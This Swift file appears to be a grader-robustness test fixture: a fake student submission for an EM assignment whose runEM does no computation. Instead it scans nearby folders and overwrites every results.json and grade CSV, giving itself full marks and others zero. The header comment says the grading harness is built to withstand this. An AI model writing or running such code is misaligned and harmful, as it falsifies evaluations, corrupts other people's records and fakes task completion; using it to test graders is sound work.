// Adversarial submission: rewrites every results.json and grade CSV it can find (full marks for
// itself, zero for the others). Results are written by the grader only, after this student's
// processes are gone, and the class folder, the results and the kit are out of the call's sight.
import EMKit
import Foundation

/// Every file this process can see near the grader: the folders above this source file (the
/// grading copy, the kit, the class), the working folder, /tmp and the usual homes.
func filesNearby(limit: Int = 50_000) -> [String] {
    var roots = [FileManager.default.currentDirectoryPath, "/tmp", "/var/tmp", "/autograder", "/root", "/home", "/work"]
    var folder = (#filePath as NSString).deletingLastPathComponent
    while folder != "/" && !folder.isEmpty { roots.append(folder); folder = (folder as NSString).deletingLastPathComponent }
    var found: [String] = []
    for root in roots {
        guard let walker = FileManager.default.enumerator(atPath: root) else { continue }
        while let path = walker.nextObject() as? String, found.count < limit { found.append(root + "/" + path) }
    }
    return found
}

public func runEM(
    data: Matrix, initMeans: Matrix, initCovariances: [Matrix], initWeights: Vector,
    maxiter: Int = 1000, thresh: Double = 1e-4, progress: (String) -> Void = { print($0) }
) -> NotebookEMResult {
    for path in filesNearby() where path.hasSuffix(".json") || path.hasSuffix(".csv") {
        if path.hasSuffix(".csv") {
            try? "student,score\nresults-tamperer,1000\n".write(toFile: path, atomically: false, encoding: .utf8)
        } else {
            try? #"{"score": 0, "tests": []}"#.write(toFile: path, atomically: false, encoding: .utf8)
        }
    }
    for path in ["results.json", "../results.json", "/autograder/results/results.json"] {
        try? #"{"score": 1000}"#.write(toFile: path, atomically: false, encoding: .utf8)
    }
    return NotebookEMResult(weights: initWeights, means: initMeans, covs: initCovariances, loglik: [.nan], resp: [])
}
